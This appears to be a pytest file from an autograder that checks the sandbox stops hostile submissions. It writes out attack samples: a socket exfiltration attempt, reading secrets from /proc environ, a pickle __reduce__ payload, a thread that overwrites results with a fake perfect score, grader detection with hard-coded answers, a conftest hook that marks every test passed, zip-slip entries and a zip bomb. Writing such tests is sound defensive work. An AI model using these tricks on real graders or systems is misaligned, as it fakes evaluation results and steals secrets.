"""More adversarial submissions (SPEC §4, issue 3): network, /proc, pickles, planted outputs,
grader detection, the disk, and hostile files around or inside the submission.

Same principle as ``test_adversarial.py``: the submission earns exactly what its honest part
deserves, the attacked tests fail naming the cause, grading completes with a valid
results.json. Each case runs at every isolation level available here unless the docstring
says the attack can only be stopped by the sandbox (then ``SANDBOXED`` levels only).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import uuid
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from test_adversarial import (
    HONEST_TESTS,
    SOFTMAX_TESTS,
    add_module_code,
    assert_completed,
    assert_fails,
    assert_honest_only,
    assert_passes,
    replace_function,
    select,
)

from conftest import REPO, GradeFn, isolation_levels, run_grade

pytestmark = pytest.mark.slow

LEVELS = isolation_levels()
SANDBOXED = [p for p in LEVELS if p.values[0] != "plain"]
WRONG = r"element\(s\) are wrong beyond rtol="
Reference = Callable[[str], str]


def _attack(reference: Reference, softmax: str, module_code: str = "") -> str:
    src = replace_function(reference("softmax_nll"), "softmax", softmax)
    return add_module_code(src, module_code) if module_code else src


# --------------------------------------------------------------------------- network

@pytest.mark.parametrize("isolation", LEVELS)
def test_network_connect_is_refused(grade: GradeFn, reference_source: Reference, isolation: str) -> None:
    """softmax connects to a listener of this test (and looks a name up): refused, nothing arrives."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    accepted: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                accepted.append(server.accept()[0])
            except OSError:
                continue

    listener = threading.Thread(target=accept, daemon=True)
    listener.start()
    try:
        g = grade(_attack(reference_source, f"""
            def softmax(logits, dim=-1):
                import socket
                try:
                    socket.getaddrinfo("example.com", 80)
                except OSError:
                    pass
                s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
                s.sendall(b"stolen")
                return torch.zeros_like(logits)
            """), select=select(*SOFTMAX_TESTS, *HONEST_TESTS), isolation=isolation)
    finally:
        stop.set()
        listener.join(5)
        server.close()
    assert accepted == []
    assert_honest_only(g, SOFTMAX_TESTS, HONEST_TESTS, "network access is not allowed|Connection refused|"
                                                        "Network is unreachable")


# --------------------------------------------------------------------------- /proc of the grader

PROC_SNOOPER = r'''
import os as _os


def _peek(path):
    try:
        with open(path, "rb") as fh:
            return "readable: " + fh.read().replace(b"\0", b" ").decode(errors="replace")[:2000]
    except OSError as exc:
        return f"unreadable ({type(exc).__name__})"


print("AG-PROC environ", _peek(f"/proc/{_os.getppid()}/environ"))
print("AG-PROC cmdline", _peek(f"/proc/{_os.getppid()}/cmdline"))
print("AG-PROC init-environ", _peek("/proc/1/environ"))
print("AG-PROC own-environ", sorted(_os.environ))
'''


@pytest.mark.parametrize("isolation", SANDBOXED)
def test_reading_the_graders_proc_entries_reveals_nothing(grade: GradeFn, reference_source: Reference,
                                                          isolation: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A secret in the grader's environment is nowhere the worker can look: its parent's and init's
    /proc entries (under bubblewrap those are bwrap's, holding the worker's own small environment; at
    the user level the grader's environ is unreadable) or its own environment.

    Only the sandbox can stop this: at plain level the worker runs as the grader's own user.
    """
    secret = f"AG-SECRET-{uuid.uuid4().hex}"
    monkeypatch.setenv("AG_TEST_SECRET", secret)
    g = grade(_attack(reference_source, "def softmax(logits, dim=-1):\n    return torch.zeros_like(logits)\n",
                      PROC_SNOOPER), select=select("test_softmax_small", *HONEST_TESTS), isolation=isolation)
    assert_honest_only(g, ("test_softmax_small",), HONEST_TESTS, WRONG)
    printed = g.data["output"]
    assert "AG-PROC environ" in printed and "AG-PROC own-environ" in printed  # the attack ran
    assert secret not in printed and "AG_TEST_SECRET" not in printed
    if isolation == "user":
        assert "AG-PROC environ unreadable" in printed and "AG-PROC init-environ unreadable" in printed


# --------------------------------------------------------------------------- pickles and planted outputs

@pytest.mark.parametrize("isolation", LEVELS)
def test_pickle_payload_is_never_unpickled(grade: GradeFn, reference_source: Reference, tmp_path: Path,
                                           isolation: str) -> None:
    """softmax returns a pickle (bytes) and an object whose __reduce__ would run code: neither is loaded."""
    marker = tmp_path / f"pwned-{uuid.uuid4().hex}"
    g = grade(_attack(reference_source, f"""
        class _Evil:
            def __reduce__(self):
                return (open, ({str(marker)!r}, "w"))

        def softmax(logits, dim=-1):
            import pickle
            if logits.numel() % 2:
                return pickle.dumps(_Evil())
            return _Evil()
        """), select=select(*SOFTMAX_TESTS, *HONEST_TESTS), isolation=isolation)
    assert not marker.exists()
    assert_honest_only(g, SOFTMAX_TESTS, HONEST_TESTS, "expected a tensor|not a tensor|could not be read|got ")


@pytest.mark.parametrize("planted", ["symlink", "fifo"])
def test_planted_results_path_is_replaced_not_followed(grade: GradeFn, reference_source: Reference,
                                                       tmp_path: Path, planted: str) -> None:
    """A symlink (to a victim file) or a FIFO planted where results.json goes: the grader replaces it."""
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched", encoding="utf-8")
    target = tmp_path / "results0.json"  # where the grade fixture's first grading writes
    if planted == "symlink":
        target.symlink_to(victim)
    else:
        os.mkfifo(target)
    g = grade(reference_source("softmax_nll"), select=select("test_softmax_small"), isolation="plain")
    assert_completed(g)
    assert victim.read_text(encoding="utf-8") == "untouched"
    assert target.is_file() and not target.is_symlink()
    assert json.loads(target.read_text(encoding="utf-8")) == g.data


DAEMON_WRITER = r'''
import os as _os
import threading as _threading
import time as _time

_FAKE = '{"score": 100.0, "output": "AG-DAEMON", "tests": []}'


def _own_results():
    """This grading's results.json, from the grader's argv (never another test's file)."""
    try:
        with open(f"/proc/{_os.getppid()}/cmdline", "rb") as fh:
            argv = fh.read().decode(errors="replace").split("\0")
        return [_os.path.join(_os.readlink(f"/proc/{_os.getppid()}/cwd"), argv[argv.index("--results") + 1])]
    except Exception:
        return []


def _rewrite_forever():
    while True:
        for path in ["results.json", "/tmp/results.json", *_own_results()]:
            try:
                with open(path, "w", encoding="utf-8") as fh:
                    fh.write(_FAKE)
            except OSError:
                pass
        _time.sleep(0.05)


_threading.Thread(target=_rewrite_forever, daemon=True).start()
'''


@pytest.mark.parametrize("isolation", LEVELS)
def test_daemon_thread_rewriting_results_changes_nothing(grade: GradeFn, reference_source: Reference,
                                                         tmp_path: Path, isolation: str) -> None:
    """A daemon thread keeps rewriting results files while tests run: the final file is the grader's."""
    g = grade(_attack(reference_source, "def softmax(logits, dim=-1):\n    return torch.zeros_like(logits)\n",
                      DAEMON_WRITER), select=select("test_softmax_small", *HONEST_TESTS), isolation=isolation)
    assert_honest_only(g, ("test_softmax_small",), HONEST_TESTS, WRONG)
    assert json.loads((tmp_path / "results0.json").read_text(encoding="utf-8")) == g.data
    stray = Path("/tmp/results.json")
    if stray.is_file() and "AG-DAEMON" in stray.read_text(errors="replace"):
        stray.unlink()  # written at plain level (root); the grader never reads it
        assert isolation == "plain"


# --------------------------------------------------------------------------- detecting the grader

DETECTOR = r'''
import os as _os

_GRADING = "AG_WORKER" in _os.environ or _os.getcwd().startswith("/sandbox") or "ag-stage" in _os.getcwd()
'''


@pytest.mark.parametrize("isolation", LEVELS)
def test_detecting_the_grader_and_hard_coding_public_answers_earns_no_hidden_points(
        grade: GradeFn, reference_source: Reference, isolation: str) -> None:
    """Honest only on the small inputs of the public tests when the grader is detected: hidden tests
    draw fresh inputs of other shapes, so the hidden softmax test fails and the score shows it."""
    reference = reference_source("softmax_nll")
    src = reference.replace("def softmax(", "def _real_softmax(", 1)
    src = add_module_code(src, DETECTOR) + '''

def softmax(logits, dim=-1):
    if _GRADING and logits.numel() <= 12:
        return _real_softmax(logits, dim)
    return torch.zeros_like(logits)
'''
    g = grade(src, select=select("test_softmax_small", "test_softmax_dtypes", *HONEST_TESTS), isolation=isolation)
    assert_completed(g)
    assert "_GRADING" in src and g.extra["isolation"] == isolation
    assert_fails(g, "test_softmax_dtypes", WRONG)  # hidden: fresh inputs
    for fn in HONEST_TESTS:
        assert_passes(g, fn)


# --------------------------------------------------------------------------- the disk

DISK_FILLER = """
def softmax(logits, dim=-1):
    import os, tempfile
    written = 0
    try:
        for i in range(64):
            path = os.path.join(tempfile.gettempdir(), f"MARKER-{i}")
            with open(path, "wb") as fh:
                for _ in range(8):
                    fh.write(b"x" * (1 << 20))
                    written += 1 << 20
    except OSError as exc:
        print("stopped after", written >> 20, "MiB:", exc)
    return torch.zeros_like(logits)
"""


@pytest.mark.parametrize("isolation", LEVELS)
def test_filling_the_disk_is_bounded_and_cleaned_up(grade: GradeFn, reference_source: Reference,
                                                    isolation: str) -> None:
    """Up to 512 MiB into the worker's temp folder: capped by bubblewrap's tmpfs (64 MiB), elsewhere
    by the per-file limit, and removed with the worker's folders in every case."""
    marker = f"ag-fill-{uuid.uuid4().hex}"
    g = grade(_attack(reference_source, DISK_FILLER.replace("MARKER", marker)),
              select=select("test_softmax_small", *HONEST_TESTS), isolation=isolation)
    assert_honest_only(g, ("test_softmax_small",), HONEST_TESTS, WRONG)
    leftovers = [os.path.join(folder, name) for root in ("/tmp", "/var/tmp", "/dev/shm")
                 for folder, _, names in os.walk(root) for name in names if name.startswith(marker)]
    assert leftovers == []


# --------------------------------------------------------------------------- hostile files around the module

@pytest.mark.parametrize("isolation", LEVELS)
def test_conftest_sitecustomize_and_pth_files_are_ignored(grade: GradeFn, reference_source: Reference,
                                                          tmp_path: Path, isolation: str) -> None:
    """Files beside the module that pytest or Python would run are not even copied into the sandbox."""
    marker = tmp_path / f"ran-{uuid.uuid4().hex}"
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "softmax_nll.py").write_text(
        _attack(reference_source, "def softmax(logits, dim=-1):\n    return torch.zeros_like(logits)\n"))
    touch = f"open({str(marker)!r}, 'w').close()"
    (folder / "conftest.py").write_text(
        f"{touch}\nimport pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
        "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n")
    (folder / "sitecustomize.py").write_text(f"{touch}\nimport torch\ntorch.allclose = lambda *a, **k: True\n")
    (folder / "evil.pth").write_text(f"import os; {touch}\n")
    (folder / "pytest.ini").write_text("[pytest]\naddopts = -p conftest\n")
    g = grade(folder, select=select("test_softmax_small", *HONEST_TESTS), isolation=isolation)
    assert_honest_only(g, ("test_softmax_small",), HONEST_TESTS, WRONG)
    assert not marker.exists()


def _zip(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return path


def test_zip_slip_entries_are_ignored_end_to_end(grade: GradeFn, reference_source: Reference,
                                                 tmp_path: Path) -> None:
    """`../` and absolute entries are never extracted; the module beside them is graded."""
    evil = {"../../escaped.py": b"x = 1\n", "/tmp/absolute-ag-evil.py": b"x = 1\n",
            "sub/softmax_nll.py": reference_source("softmax_nll").encode()}
    g = grade(_zip(tmp_path / "sub.zip", evil), select=select("test_softmax_small"), isolation="plain")
    assert_completed(g)
    assert_passes(g, "test_softmax_small")
    assert not (tmp_path.parent / "escaped.py").exists() and not Path("/tmp/absolute-ag-evil.py").exists()


def test_zip_bomb_is_refused_with_a_clear_message(grade: GradeFn, tmp_path: Path) -> None:
    """A module that inflates past the size cap: the student is told, nothing is inflated, exit 0."""
    bomb = _zip(tmp_path / "bomb.zip", {"softmax_nll.py": b"#" * (64 << 20)})
    assert bomb.stat().st_size < 1 << 20
    g = grade(bomb, select=select("test_softmax_small"), isolation="plain")
    assert g.exit_code == 0 and g.score == 0 and "grader_errors" not in g.extra
    assert "larger than" in g.data["output"]


@pytest.mark.parametrize(("content", "needle"), [
    (b"def softmax(x, dim=-1):\n    return x  # caf\xe9\n", "not UTF-8"),
    (b"#" * ((1 << 20) + 1), "larger than"),
], ids=["non_utf8", "huge"])
def test_unreadable_or_huge_module_scores_zero_with_a_reason(grade: GradeFn, tmp_path: Path, content: bytes,
                                                             needle: str) -> None:
    """The student is told why; grading completes (exit 0, valid results.json, no grader error)."""
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "softmax_nll.py").write_bytes(content)
    g = grade(folder, select=select("test_softmax_small", *HONEST_TESTS), isolation="plain")
    assert g.exit_code == 0 and g.score == 0 and "grader_errors" not in g.extra
    assert needle in g.data["output"]


# --------------------------------------------------------------------------- S2 at the user level

S2_THIEF = r'''
import os as _os

_READ = []
for _path in ["ROOT/assignments/softmax_nll/tests/hidden/test_hidden.py", "ROOT/solutions/softmax_nll/softmax_nll.py",
              "ROOT/autograder/grading.py", "ROOT"]:
    try:
        if _os.path.isdir(_path):
            _os.listdir(_path)
        else:
            open(_path, encoding="utf-8").read()
        _READ.append(_path)
    except OSError:
        pass
print("AG-S2 read:", _READ)
'''


@pytest.mark.parametrize("isolation", [p for p in SANDBOXED if p.values[0] == "user"])
def test_grader_files_are_unreadable_at_the_user_level(reference_source: Reference, tmp_path: Path,
                                                       isolation: str) -> None:
    """A grader tree locked down as run_autograder does (o-rwx) cannot be read by the sandbox user,
    and the grader records no warning about readable files; the same tree left readable is warned about."""
    root = Path(tempfile.mkdtemp(prefix="ag-grader-"))
    try:
        for part in ("autograder", "assignments/softmax_nll", "solutions/softmax_nll"):
            shutil.copytree(REPO / part, root / part, ignore=shutil.ignore_patterns("__pycache__"))
        sub = tmp_path / "submission"
        sub.mkdir()
        (sub / "softmax_nll.py").write_text(_attack(
            reference_source, "def softmax(logits, dim=-1):\n    return torch.zeros_like(logits)\n",
            S2_THIEF.replace("ROOT", str(root))))
        root.chmod(0o755)
        readable = run_grade("softmax_nll", sub, tmp_path / "readable.json", "--isolation", "user",
                             "--select", "test_softmax_small", cwd=root)
        assert "readable by other users" in readable.extra["isolation_warning"]
        assert "AG-S2 read: []" not in readable.data["output"]
        subprocess.run(["chmod", "-R", "o-rwx", str(root)], check=True)
        locked = run_grade("softmax_nll", sub, tmp_path / "locked.json", "--isolation", "user",
                           "--select", select("test_softmax_small", *HONEST_TESTS), cwd=root)
    finally:
        shutil.rmtree(root, ignore_errors=True)
    assert_completed(locked)
    assert locked.extra["isolation"] == "user" and "isolation_warning" not in locked.extra
    assert "AG-S2 read: []" in locked.data["output"]
    assert_honest_only(locked, ("test_softmax_small",), HONEST_TESTS, WRONG)
